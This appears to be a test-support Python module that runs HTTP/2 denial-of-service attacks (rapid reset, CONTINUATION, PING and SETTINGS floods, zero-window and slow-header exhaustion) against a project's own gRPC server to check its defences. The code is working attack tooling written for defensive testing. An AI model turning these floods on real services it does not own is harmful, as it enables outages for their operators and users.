"""What a hostile client does to a server, at the level of HTTP/2: a program of its own.

`python -m tests.support.attacks NAME ADDRESS KEY` attacks until its standard input ends. It writes
a line when the attack is in full swing, and at the end how often it did what it does.
"""

import asyncio
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from itertools import count
from typing import Any

import uvloop

from countermand.v1.cancellation_service_pb2 import WatchTasksRequest
from tests.support.http2 import (
    ACK,
    CONTINUATION,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    Http2,
    connected,
    literal,
)

LIST_TASKS = "/countermand.v1.TaskService/ListTasks"
WATCH_TASKS = "/countermand.v1.CancellationService/WatchTasks"
CANCEL = b"\0\0\0\x08"
"""Why a stream is reset."""
WATCHES, SILENT, SLOW = 1000, 500, 200
PER_CONNECTION = 200
"""How many watches a connection may have."""
AT_ONCE = 100
"""How many frames are written before the attacker waits until they are on their way."""
LONGEST_BLOCK = 64 * 1024
"""How many bytes of headers a flood sends in one block, if the server lets it."""


class Attack:
    """Who is attacked, and how often it was done."""

    def __init__(self, address: str, key: str) -> None:
        self.address = address
        self.key = key
        self.done = 0
        self.under_way = asyncio.Event()

    def did(self, times: int) -> None:
        self.done += times
        self.under_way.set()

    @asynccontextmanager
    async def connected(self, **settings: int) -> AsyncIterator[tuple[Http2, asyncio.Task[Any]]]:
        """Begins a connection. Gives it, and the task that reads it until it ends."""
        async with connected(self.address) as raw:
            raw.begin(**settings)
            raw.send(SETTINGS, ACK)
            reading = asyncio.create_task(raw.stay_alive())
            try:
                yield raw, reading
            finally:
                reading.cancel()

    async def flood(self, frames: Callable[[Http2], object]) -> None:
        """Sends frames as fast as they are taken, until the server ends the connection."""
        async with self.connected() as (raw, reading):
            while not reading.done():
                for _ in range(AT_ONCE):
                    frames(raw)
                await raw.flush()
                self.did(AT_ONCE)
                await asyncio.sleep(0)


async def rapid_reset(attack: Attack) -> None:
    """Calls, and breaks off every call at once."""

    def frames(raw: Http2) -> None:
        raw.send(RST_STREAM, 0, raw.call(LIST_TASKS, x_api_key=attack.key), CANCEL)

    await attack.flood(frames)


async def pings(attack: Attack) -> None:
    """Wants to know all the time whether the server is still there."""
    await attack.flood(lambda raw: raw.send(PING, payload=b"attacked"))


async def settings(attack: Attack) -> None:
    """Changes its settings all the time; each change is to be acknowledged."""
    await attack.flood(lambda raw: raw.send(SETTINGS, payload=b"\0\x04\0\1\0\0"))


async def continuations(attack: Attack) -> None:
    """Sends headers that go on and on, in pieces that are empty on every other connection."""
    piece = literal(("x-note", "a" * 100)) if attack.done % (2 * AT_ONCE) else b""
    async with attack.connected() as (raw, reading):
        stream = raw.open(LIST_TASKS, flags=END_STREAM)
        for _ in range(0, LONGEST_BLOCK, AT_ONCE):
            if reading.done():
                break
            for _ in range(AT_ONCE):
                raw.send(CONTINUATION, 0, stream, piece)
            await raw.flush()
            await asyncio.sleep(0)
            attack.did(AT_ONCE)


async def zero_windows(attack: Attack) -> None:
    """Opens many watches, and takes nothing of what they send. Of those that end, opens others."""
    request = WatchTasksRequest().SerializeToString()

    async def one() -> None:
        async with connected(attack.address) as raw:
            raw.begin(INITIAL_WINDOW_SIZE=0)
            raw.send(SETTINGS, ACK)
            for _ in range(PER_CONNECTION):
                raw.call(WATCH_TASKS, request, x_api_key=attack.key)
            attack.done += PER_CONNECTION
            if attack.done >= WATCHES:
                attack.under_way.set()
            while (frame := await raw.read()) is not None and frame.kind != GOAWAY:
                if frame.kind == RST_STREAM or (frame.kind == HEADERS and frame.flags & END_STREAM):
                    raw.call(WATCH_TASKS, request, x_api_key=attack.key)
                    attack.done += 1
                if frame.kind == PING and not frame.flags & ACK:
                    raw.send(PING, ACK, payload=frame.payload)

    await each(WATCHES // PER_CONNECTION, one)


async def silence(attack: Attack) -> None:
    """Keeps many connections open on which nothing is ever said."""

    async def one() -> None:
        async with connected(attack.address) as raw:
            attack.done += 1
            if attack.done >= SILENT:
                attack.under_way.set()
            await raw.closed()

    await each(SILENT, one)


async def endless_headers(attack: Attack) -> None:
    """Keeps many connections open on which one byte after the other is said of the headers."""

    async def one() -> None:
        async with attack.connected() as (raw, reading):
            stream = raw.open(LIST_TASKS, flags=END_STREAM)
            for piece in count():
                if reading.done():
                    break
                raw.send(CONTINUATION, 0, stream, b"\0\x01a\x7f"[piece : piece + 1] or b"\xff")
                await raw.flush()
                attack.done += 1
                if attack.done >= 2 * SLOW:
                    attack.under_way.set()
                await asyncio.sleep(0.5)

    await each(SLOW, one)


async def each(times: int, one: Callable[[], Awaitable[None]]) -> None:
    """Does the same on so many connections at once."""
    await asyncio.gather(*(again_and_again(one) for _ in range(times)))


async def again_and_again(attack: Callable[[], Awaitable[None]]) -> None:
    """Comes back on a new connection whenever the server has ended one."""
    while True:
        with suppress(ConnectionError):
            await attack()
        await asyncio.sleep(0.01)


ATTACKS: dict[str, Callable[[Attack], Awaitable[None]]] = {
    "rapid reset": rapid_reset,
    "CONTINUATION flood": continuations,
    "PING flood": pings,
    "SETTINGS flood": settings,
    "zero windows": zero_windows,
    "silent connections": silence,
    "endless headers": endless_headers,
}


async def main(name: str, address: str, key: str) -> None:
    attack = Attack(address, key)
    attacking = asyncio.create_task(again_and_again(lambda: ATTACKS[name](attack)))
    ended = asyncio.create_task(asyncio.to_thread(sys.stdin.buffer.read))
    await attack.under_way.wait()
    print("under way", flush=True)
    await asyncio.wait([attacking, ended], return_when=asyncio.FIRST_COMPLETED)
    attacking.cancel()
    await asyncio.gather(attacking, return_exceptions=True)
    print(attack.done, flush=True)


if __name__ == "__main__":
    uvloop.run(main(*sys.argv[1:]))
